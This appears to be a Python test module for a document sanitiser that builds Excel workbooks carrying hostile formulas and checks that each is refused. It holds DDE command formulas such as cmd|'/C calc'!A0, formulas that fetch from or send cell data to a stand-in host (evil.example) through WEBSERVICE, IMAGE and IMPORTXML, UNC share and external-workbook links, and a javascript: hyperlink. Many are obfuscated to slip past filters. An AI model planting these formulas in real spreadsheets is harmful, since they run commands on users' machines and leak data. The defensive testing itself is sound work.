"""Formulas and names of a workbook that run, call out or lead elsewhere."""

from random import Random

from ita_core.evidence import inspect as refusals
from tests import files
from tests.attacks.attack import EXCEL, attack
from tests.attacks.links import ODD


def with_formula(content: bytes, formula: str) -> bytes:
    made = files.parts(content)
    name = "xl/worksheets/sheet1.xml"
    cell = f'<sheetData><row r="99"><c r="A99"><f>{formula}</f></c></row>'
    return files.packed({**made, name: made[name].replace(b"<sheetData>", cell.encode(), 1)})


@attack("formulas", refusals.CommandField, EXCEL)
def a_dde_formula(content: bytes, random: Random) -> bytes:
    formulas = [
        "cmd|'/C calc'!A0",
        "MSEXCEL|'\\..\\cmd.exe /c x'!''",
        "1+cmd&#124;'/c x'!A0",
        "cmd&#x7c;'/c x'!A0",
        "'cmd|/c x'!A0",
        "cmd<!-- -->|'/c x'!A0",
        "<![CDATA[cmd|a!b]]>",
        'IF(A1="|",cmd|a!b,1)',
    ]
    return with_formula(content, random.choice(formulas))


@attack("formulas", refusals.CommandField, EXCEL)
def a_dde_formula_in_another_coding(content: bytes, _random: Random) -> bytes:
    made = files.parts(with_formula(content, "cmd|'/C calc'!A0"))
    whole = '<?xml version="1.0" encoding="UTF-16"?>' + made["xl/worksheets/sheet1.xml"].decode().rpartition("?>")[2]
    return files.packed({**made, "xl/worksheets/sheet1.xml": whole.encode("utf-16")})


@attack("formulas", refusals.CommandField, EXCEL)
def a_dde_name(content: bytes, _random: Random) -> bytes:
    name = "<definedNames><definedName name=\"a\">cmd|'/c x'!A0</definedName></definedNames></workbook>"
    content = files.packed({**files.parts(content)})
    made = files.parts(content)
    workbook = made["xl/workbook.xml"].replace(b"<definedNames />", b"").replace(b"</workbook>", name.encode())
    return files.packed({**made, "xl/workbook.xml": workbook})


CALLS = ['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'RTD("a.b",,"c")', '_xlfn.IMAGE("http://evil.example/a")',
         'IMAGE ("http://evil.example/a")', "1+image(A1)", '_xlfn.FILTERXML(A1,"//a")', '_xlfn.STOCKHISTORY("MSFT",A1)',
         'CUBEVALUE("a","[Measures].[b]")', 'CUBESETCOUNT(CUBESET("a","b"))', '_xlfn.TRANSLATE("a","en","th")',
         '_xlfn._xlws.PY(0,0)', '_xlfn.COPILOT("a")', '_xlfn.FIELDVALUE(A1,"Price")', 'CALL("a","b","c")',
         'REGISTER.ID("a","b")', 'IMPORTXML("http://evil.example","//a")', '_xlfn.IMPORTTEXT("http://evil.example/a")',
         "I&#77;AGE(A1)", "IM<!-- -->AGE(A1)", "<![CDATA[IMAGE(A1)]]>",
         # What a name or a text is taken for does not hide a call.
         "_xlfn.MAP(A1:A9,_xleta.IMAGE)", '_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("http://evil.example"))',
         'FILES("\\\\evil\\share\\*")',
         "'a\"b'!A1+WEBSERVICE(\"x\")",
         "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])", '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip


@attack("formulas", refusals.FetchesData, EXCEL)
def a_formula_that_calls_out(content: bytes, random: Random) -> bytes:
    return with_formula(content, random.choice(CALLS))


@attack("formulas", refusals.FetchesData, EXCEL)
def a_formula_that_calls_out_in_another_coding(content: bytes, random: Random) -> bytes:
    made = files.parts(with_formula(content, random.choice(CALLS[:4])))
    whole = '<?xml version="1.0" encoding="UTF-16"?>' + made["xl/worksheets/sheet1.xml"].decode().rpartition("?>")[2]
    return files.packed({**made, "xl/worksheets/sheet1.xml": whole.encode("utf-16")})


@attack("formulas", refusals.FetchesData, EXCEL)
def a_call_outside_of_cells(content: bytes, random: Random) -> bytes:
    call = random.choice(CALLS[:4])
    where = random.choice([
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
        "</conditionalFormatting>",
        '<dataValidations><dataValidation sqref="A1"><formula1>{}</formula1></dataValidation></dataValidations>',
        '<extLst><ext><xm:f xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">{}</xm:f></ext></extLst>',
    ])  # fmt: skip
    return files.changed(content, "xl/worksheets/sheet1.xml", "</worksheet>", where.format(call) + "</worksheet>")


@attack("formulas", refusals.FetchesData, EXCEL)
def a_name_that_calls_out(content: bytes, random: Random) -> bytes:
    name = f'<definedNames><definedName name="a">{random.choice(CALLS[:4])}</definedName></definedNames></workbook>'
    made = files.parts(content)
    workbook = made["xl/workbook.xml"].replace(b"<definedNames />", b"").replace(b"</workbook>", name.encode())
    return files.packed({**made, "xl/workbook.xml": workbook})


@attack("formulas", refusals.OddLink, EXCEL)
def a_formula_whose_link_acts(content: bytes, random: Random) -> bytes:
    place = random.choice([place for place in ODD if "&" not in place])
    return with_formula(content, random.choice(['HYPERLINK("{}","a")', 'IF(1,HYPERLINK( "{}"))']).format(place))


# LibreOffice takes each for a link to that workbook, without a part that declares it.
WORKBOOKS = ("'http://evil.example/[a.xlsx]S'!A1", "'\\\\evil\\share\\[a.xlsx]S'!A1", "1+[a.xlsx]S!A1",
             "'file:///evil/[it''s.xlsx]S'!A1", "[a.xlsx]!Name", "&apos;http://evil.example/[a.xlsx]S&apos;!A1",
             "'http://evil.example/&#91;a.xlsx]S'!A1")  # fmt: skip


@attack("formulas", refusals.LinkedWorkbook, EXCEL)
def a_formula_over_another_workbook(content: bytes, random: Random) -> bytes:
    return with_formula(content, random.choice(WORKBOOKS))


@attack("formulas", refusals.LinkedWorkbook, EXCEL)
def a_place_in_another_workbook_as_a_text(content: bytes, random: Random) -> bytes:
    place = random.choice(["'http://evil.example/a.ods'#$S.A1", "'\\\\evil\\s\\[a.xlsx]S'!A1", "[a.xlsx]S!A1"])
    return with_formula(content, f'INDIRECT("{place}")')


COMPUTED = ('HYPERLINK(IF(A1=1,"\\\\evil\\share"),"a")', 'HYPERLINK("java"&amp;"script:alert(1)")',
            'HYPERLINK(A1&amp; "file://evil/a")')  # fmt: skip


@attack("formulas", refusals.OddLink, EXCEL)
def a_formula_that_puts_a_link_together(content: bytes, random: Random) -> bytes:
    return with_formula(content, random.choice(COMPUTED))
